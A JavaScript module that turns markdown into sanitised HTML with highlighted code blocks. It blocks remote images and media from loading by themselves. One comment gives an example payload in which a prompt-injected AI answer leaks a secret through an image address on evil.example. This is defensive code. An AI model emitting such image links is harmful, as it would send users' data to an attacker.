// Markdown -> sanitised HTML with highlighted code blocks and copy buttons.
// Uses the vendored globals window.marked, window.DOMPurify and window.hljs.

import { el, copyButton } from "./util.js";

const { marked: markedLib, DOMPurify, hljs } = window;

const parser = markedLib ? new markedLib.Marked({ gfm: true, breaks: true }) : null;

if (hljs) hljs.configure({ ignoreUnescapedHTML: true });

// Attributes whose address the browser fetches as soon as the element is shown, with no
// click. `srcset` is forbidden outright: markdown never writes it, and a list of addresses
// is one more thing to get wrong.
const FETCHED_ATTRS = ["src", "poster", "background"];
// Players that fetch their src and poster, and those of the sources inside them, on sight.
const MEDIA_TAGS = new Set(["VIDEO", "AUDIO", "SOURCE", "TRACK"]);

/** Whether the browser may fetch url by itself: an address on this site, or a data: URL. */
function isLocalAddress(url) {
  let parsed;
  try {
    parsed = new URL(url, document.baseURI);
  } catch {
    return false;
  }
  return parsed.protocol === "data:" || parsed.origin === window.location.origin;
}

/**
 * What a remote image becomes: a link showing its description and address. Loading it
 * would send the address to its server unasked, and a prompt-injected answer can put
 * anything it read into that address (`![x](https://evil.example/?q=<secret>)`).
 */
function remoteImageLink(img, src) {
  return remoteLink(img, src, "remote-image", img.getAttribute("alt") || "image", "image");
}

/** The same for a video or audio player: a link for each remote address it would load. */
function remoteMediaLinks(player, addresses) {
  const kind = player.tagName === "AUDIO" ? "audio" : "video";
  const links = player.ownerDocument.createElement("span");
  for (const src of addresses) links.append(remoteLink(player, src, "remote-media", kind, kind), " ");
  return links;
}

function remoteLink(node, src, kind, description, what) {
  const doc = node.ownerDocument;
  // Inside a link already (`[![x](img)](url)`), a second link would be torn apart.
  const link = doc.createElement(node.closest("a") ? "span" : "a");
  link.className = kind;
  if (link.tagName === "A") {
    link.setAttribute("href", src);
    link.setAttribute("target", "_blank");
    link.setAttribute("rel", "noopener noreferrer");
  }
  link.setAttribute("title", `A remote ${what}, not loaded`);
  const alt = doc.createElement("span");
  alt.className = `${kind}-alt`;
  alt.textContent = description;
  const address = doc.createElement("span");
  address.className = `${kind}-url`;
  address.textContent = src;
  link.append(alt, " ", address);
  return link;
}

/** The remote addresses a player (or a source of one) would fetch by itself. */
function remoteMedia(node) {
  const found = [];
  for (const part of [node, ...node.querySelectorAll("source, track")]) {
    for (const name of ["src", "poster"]) {
      const value = part.getAttribute(name);
      if (value !== null && !isLocalAddress(value)) found.push(value);
    }
  }
  return found;
}

// A table column's alignment (`|--:|`), which marked writes as an `align` attribute: the
// stylesheet's own `text-align` would override that, so it becomes a class instead.
const ALIGNMENTS = new Set(["left", "center", "right"]);

if (DOMPurify) {
  DOMPurify.addHook("beforeSanitizeAttributes", (node) => {
    if (node.tagName !== "TH" && node.tagName !== "TD") return;
    const align = (node.getAttribute("align") || "").toLowerCase();
    node.removeAttribute("align");
    if (ALIGNMENTS.has(align)) node.classList.add(`align-${align}`);
  });
  DOMPurify.addHook("afterSanitizeAttributes", (node) => {
    // Every link opens in a new tab without handing over window.opener or the referrer.
    if (node.tagName === "A" && node.hasAttribute("href")) {
      node.setAttribute("target", "_blank");
      node.setAttribute("rel", "noopener noreferrer");
    }
    // Markdown images and raw <img> alike: only this site's images and data: URLs load.
    const src = node.getAttribute("src");
    if (node.tagName === "IMG" && src !== null && !isLocalAddress(src)) {
      node.replaceWith(remoteImageLink(node, src));
      return;
    }
    // Players the same, with what their sources would load.
    if (MEDIA_TAGS.has(node.tagName)) {
      const remote = remoteMedia(node);
      if (remote.length) {
        node.replaceWith(remoteMediaLinks(node, remote));
        return;
      }
    }
    for (const name of FETCHED_ATTRS) {
      const value = node.getAttribute(name);
      if (value !== null && !isLocalAddress(value)) node.removeAttribute(name);
    }
  });
}

const PURIFY_OPTIONS = {
  USE_PROFILES: { html: true },
  FORBID_TAGS: ["style", "form", "input", "button", "textarea", "select", "option"],
  FORBID_ATTR: ["style", "srcset"],
};

/** Sanitised HTML for a markdown string; plain escaped text if a library is missing. */
function toSafeHtml(text) {
  if (!parser || !DOMPurify) return null;
  return DOMPurify.sanitize(parser.parse(text), PURIFY_OPTIONS);
}

/**
 * Render markdown text into target (replacing its content).
 * The HTML is always sanitised by DOMPurify before it reaches the DOM.
 */
export function renderMarkdown(target, text) {
  const html = toSafeHtml(text || "");
  if (html === null) {
    target.textContent = text || "";
    target.classList.add("plain");
    return;
  }
  target.innerHTML = html;
  enhanceCodeBlocks(target);
}

function languageOf(code) {
  const cls = Array.from(code.classList).find((c) => c.startsWith("language-"));
  return cls ? cls.slice("language-".length) : "";
}

/** Highlight every <pre><code> and wrap it with a header holding the language and a Copy button. */
function enhanceCodeBlocks(root) {
  for (const pre of root.querySelectorAll("pre")) {
    const code = pre.querySelector("code") || pre;
    const raw = code.textContent;
    let lang = languageOf(code);
    if (hljs && code !== pre) {
      if (lang && !hljs.getLanguage(lang)) {
        code.classList.remove(`language-${lang}`);
        code.classList.add("nohighlight");
      } else if (lang || raw.length < 20000) {
        try {
          hljs.highlightElement(code);
        } catch {
          /* leave it plain */
        }
      }
    }
    const header = el(
      "div",
      { class: "code-header" },
      el("span", { class: "code-lang", text: lang || "text" }),
      copyButton(() => raw, "Copy", "Copy code"),
    );
    const wrapper = el("div", { class: "code-block" });
    pre.replaceWith(wrapper);
    wrapper.append(header, pre);
  }
}
